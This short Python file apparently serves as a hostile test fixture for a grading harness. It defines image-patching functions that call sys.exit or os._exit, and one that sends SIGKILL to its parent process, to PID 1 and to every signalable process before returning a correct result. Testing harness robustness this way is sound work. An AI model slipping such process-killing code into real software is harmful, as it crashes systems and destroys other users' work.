"""sys.exit and os._exit during a call; killing its parent and everything it may signal."""
import os
import signal
import sys


def patchify(z, p):
    sys.exit(0)


def unpatchify(tokens, p, c, h, w):
    os._exit(0)


def sequence_length(h, w, p):
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return (h // p) * (w // p)
